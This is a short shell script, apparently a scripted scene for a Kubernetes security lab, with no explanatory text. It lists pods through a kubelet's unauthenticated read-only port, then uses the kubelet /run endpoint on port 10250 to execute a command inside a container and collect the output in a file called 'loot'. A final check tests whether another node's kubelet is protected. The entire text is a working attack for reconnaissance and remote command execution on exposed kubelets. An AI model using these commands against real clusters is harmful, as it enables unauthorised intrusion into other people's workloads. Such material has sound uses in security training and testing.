# scene: the pods from the read-only port, the number alone in a file
#@ outsider
curl -s http://node01:10255/pods > loot
curl -sk -XPOST "https://172.30.2.2:10250/run/default/web-node01/web?cmd=id" | tee -a loot
curl -sk -o /dev/null -w '%{http_code}\n' https://node02:10250/pods > guarded
